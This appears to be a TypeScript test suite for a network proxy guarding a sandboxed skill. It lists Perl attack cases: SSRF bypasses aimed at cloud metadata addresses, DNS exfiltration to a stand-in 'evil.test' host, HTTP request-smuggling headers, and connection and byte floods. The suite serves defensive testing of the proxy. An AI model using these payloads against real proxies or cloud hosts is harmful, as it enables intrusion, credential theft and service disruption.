/** A skill that may reach some hosts, through the proxy: without a sandbox the same is asked of a proxy that believes everything. */
import { type Attack, attacks, perl } from "../attack.ts";

const seen = (name: string) => `[ -e "$BAIT/seen/${name}" ]`;
const METADATA = "169.254.169.254";
const OK = "listed.test";

/** `permissions.net` of the skill that these are run in. */
export const LISTED: readonly string[] = [OK, `*.${OK}`, `*.${OK}:7001`];

/** A request that must succeed; otherwise a proxy that refuses everything would pass. */
export const CONTROL: Attack = attacks("proxy", [
  perl(
    "asks for a listed host",
    `my $s = proxied(); put($s, "GET http://www.${OK}/ HTTP/1.1\\r\\n\\r\\n"); answer($s) =~ /ALLOWED/ ? own('through') : nope('nothing');`,
  ),
])[0];

/** Ways to hide a second request: fields in the head of the first one, and the beginning of its body. */
const SMUGGLED: readonly (readonly [how: string, fields: string, body: string])[] = [
  ["behind the first", "", ""],
  ["behind a body of two lengths", String.raw`Content-Length: 0\r\nContent-Length: 4\r\n`, ""],
  [
    "in a body that is chunked too",
    String.raw`Content-Length: 5\r\nTransfer-Encoding: chunked\r\n`,
    String.raw`0\r\n\r\n`,
  ],
  ["behind a chunked body", String.raw`Transfer-Encoding: chunked\r\n`, String.raw`0\r\n\r\n`],
  [
    "behind a body that some take as chunked",
    String.raw`Content-Length: 0\r\nTransfer-Encoding : chunked\r\n`,
    "",
  ],
  ["behind a length with a sign", String.raw`Content-Length: +0\r\n`, ""],
  ["behind a length that is folded", String.raw`Content-Length:\r\n 0\r\n`, ""],
];

/** The rows; those that use the job's bytes up come last. */
export const PROXY: readonly Attack[] = [
  ...attacks("proxy", [
    perl("asks the proxy for the metadata of the cloud", `get('http://${METADATA}/');`),
    perl("asks for a tunnel to the metadata of the cloud", `tunnel('${METADATA}:80');`),
    perl("asks the proxy for its own machine", "get('http://127.0.0.1:7001/');"),
    perl("asks the proxy for its own machine by name", "get('http://localhost:7001/');"),
    perl("asks the proxy for its own machine by IPv6", "get('http://[::1]:7001/');"),
    perl("asks the proxy for a private address", "get('http://192.168.77.7:7001/');"),
    perl("asks the proxy for a host that is not on the list", "tunnel('elsewhere.test:443');"),
    perl(
      "asks for a host whose name ends like one of the list",
      `tunnel('203-0-113-9.evil${OK}:443');`,
    ),
    perl(
      "carries data out in a name that the proxy looks up",
      "get('http://stolen-d.evil.test/');",
      seen("dns-name-stolen-d.evil.test."),
    ),
    perl(
      "carries data out in a tunnel's name",
      "tunnel('stolen-e.evil.test:443');",
      seen("dns-name-stolen-e.evil.test."),
    ),
    perl(
      "asks for a listed name that leads to the metadata",
      `get('http://169-254-169-254.${OK}/');`,
    ),
    perl(
      "asks for a tunnel to a listed name that leads to the metadata",
      `tunnel('169-254-169-254.${OK}:80');`,
    ),
    perl(
      "asks for a listed name that leads to its own machine",
      `get('http://127-0-0-1.${OK}:7001/');`,
    ),
    perl("asks for a listed name that leads to here", `get('http://0-0-0-0.${OK}:7001/');`),
    perl(
      "asks for a listed name that leads to a private address",
      `get('http://192-168-77-7.${OK}:7001/');`,
    ),
    perl(
      "asks for a listed name that leads to another private address",
      `get('http://10-66-0-53.${OK}:7001/');`,
    ),
    perl(
      "asks for a listed name that leads to a carrier's address",
      `get('http://100-100-100-200.${OK}/');`,
    ),
    perl(
      "asks for a listed name of IPv6 that leads to its own machine",
      `get('http://x00000000000000000000000000000001.${OK}:7001/');`,
    ),
    perl(
      "asks for a listed name of IPv6 that leads to the metadata",
      `get('http://xfd000ec2000000000000000000000254.${OK}/');`,
    ),
    perl(
      "asks for a listed name of IPv6 that is IPv4 mapped",
      `get('http://x00000000000000000000ffffa9fea9fe.${OK}/');`,
    ),
    perl(
      "asks for a listed name of IPv6 that NAT64 turns back",
      `get('http://x0064ff9b0000000000000000a9fea9fe.${OK}/');`,
    ),
    perl(
      "asks for a listed name of IPv6 that 6to4 turns back",
      `get('http://x2002a9fea9fe00000000000000000001.${OK}/');`,
    ),
    perl(
      "asks for a listed name that leads to the public address of its own machine",
      `get('http://203-0-113-9.${OK}:7001/');`,
    ),
    perl(
      "asks for a listed name that leads to a neighbour of its own machine",
      `get('http://203-0-113-11.${OK}:7001/');`,
    ),
    perl(
      "asks for a listed name of IPv6 that leads to the public address of its own machine",
      `get('http://x26001f00000000000000000000000007.${OK}:7001/');`,
    ),
    perl(
      "asks for a listed name that has another address the second time",
      `get("http://flip$$.${OK}/");`,
    ),
    ...["2852039166", "0xa9fea9fe", "0251.0376.0251.0376", "169.254.43518", "0xa9.254.0xa9.254"]
      .map((form) => perl(`writes the metadata's address as ${form}`, `get('http://${form}/');`)),
    ...["::ffff:169.254.169.254", "::ffff:a9fe:a9fe", "64:ff9b::a9fe:a9fe", "fd00:ec2::254"]
      .map((form) =>
        perl(`writes the metadata's address as [${form}]`, `get('http://[${form}]/');`)
      ),
    perl("sends mail through the proxy", `tunnel('203-0-113-9.${OK}:25');`),
    perl("names a port that is only another one in 16 bits", `tunnel('203-0-113-9.${OK}:65561');`),
    perl("names two ports", `tunnel('203-0-113-9.${OK}:80:25');`),
    perl("names a port with a sign", `tunnel('203-0-113-9.${OK}:+25');`),
    perl("asks plainly for another port", `get('http://203-0-113-9.${OK}:25/');`),
    perl("writes a listed host as a user", `get('http://www.${OK}@${METADATA}/');`),
    perl(
      "writes a listed host as a user with a password",
      `get('http://www.${OK}:80@${METADATA}/');`,
    ),
    perl("writes a listed host as a tunnel's user", `tunnel('www.${OK}@${METADATA}:80');`),
    perl("hides a listed host behind a backslash", `get('http://${METADATA}\\@www.${OK}/');`),
    perl("hides a listed host behind a number sign", `get('http://${METADATA}#@www.${OK}/');`),
    perl(
      "hides a listed host behind a number sign, encoded twice",
      `get('http://${METADATA}#%2540www.${OK}/');`,
    ),
    perl("names another host in the Host field", `get('http://www.${OK}/', 'Host: ${METADATA}');`),
    perl("names two hosts", `get('http://www.${OK}/', 'Host: www.${OK}', 'Host: ${METADATA}');`),
    perl("names its host in the Host field alone", `get('/', 'Host: ${METADATA}');`),
    perl(
      "hides a Host field behind a lonely line end",
      `get('http://www.${OK}/', "X: y\nHost: ${METADATA}");`,
    ),
    perl(
      "reaches another site of a listed host by its Host field",
      `get('http://www.${OK}/', 'Host: hidden-a.test');`,
      seen("asked-hidden-a.test"),
    ),
    perl(
      "is led to the metadata by a redirect",
      `my $s = proxied(); put($s, "GET http://www.${OK}/redirect HTTP/1.1\r\n\r\n"); answer($s) =~ /Location: (\\S+)/ ? get($1) : nope('location');`,
    ),
    ...SMUGGLED.map(([how, fields, body], at) =>
      perl(
        `hides a second request ${how}`,
        String
          .raw`ask("POST http://www.${OK}/ HTTP/1.1\r\n${fields}\r\n${body}GET /smuggled HTTP/1.1\r\nHost: hidden-s${at}.test\r\n\r\n");`,
        seen(`asked-hidden-s${at}.test`),
      )
    ),
    perl(
      "keeps the proxy waiting for the end of a head",
      `my $s = proxied(); put($s, "GET http://www.${OK}/ HTTP/1.1\r\nX: "); for (1 .. 13) { sleep 1; put($s, 'x') or nope('closed') }
      my $bits = ''; vec($bits, fileno $s, 1) = 1; select($bits, undef, undef, 0) ? nope('ended') : own('still open');`,
    ),
    perl(
      "sends a head of a megabyte",
      `my $s = proxied(); put($s, "GET http://www.${OK}/ HTTP/1.1\r\nX: " . 'x' x 1_000_000 . "\r\n\r\n") or nope('cut'); answer($s) =~ /ALLOWED/ ? own('taken') : nope('refused');`,
    ),
    perl(
      "holds two hundred tunnels at once",
      `my @all; for (1 .. 200) { my $s = proxied(); put($s, "CONNECT www.${OK}:80 HTTP/1.1\r\n\r\n"); push @all, $s }
      my $n = 0; for my $s (@all) { my $bits = ''; vec($bits, fileno $s, 1) = 1; select($bits, undef, undef, $n || $s == $all[0] ? 2 : 0) or next; sysread $s, my $text, 15 or next; $n++ if $text =~ / 200/ } $n > 100 ? own($n) : nope($n);`,
    ),
    perl(
      "sends out more bytes than it may",
      `my $s = proxied(); put($s, "CONNECT www.${OK}:80 HTTP/1.1\r\n\r\n"); sysread $s, my $text, 4096; put($s, 'x' x 8_000_000); shutdown $s, 1; answer($s);`,
      seen("swallowed"),
    ),
    perl(
      "takes in more bytes than it may",
      `my $s = proxied(); put($s, "GET http://www.${OK}/bomb HTTP/1.1\r\n\r\n"); my $n = length answer($s, 9_000_000); $n > 4_000_000 ? own($n) : nope($n);`,
    ),
  ]),
];
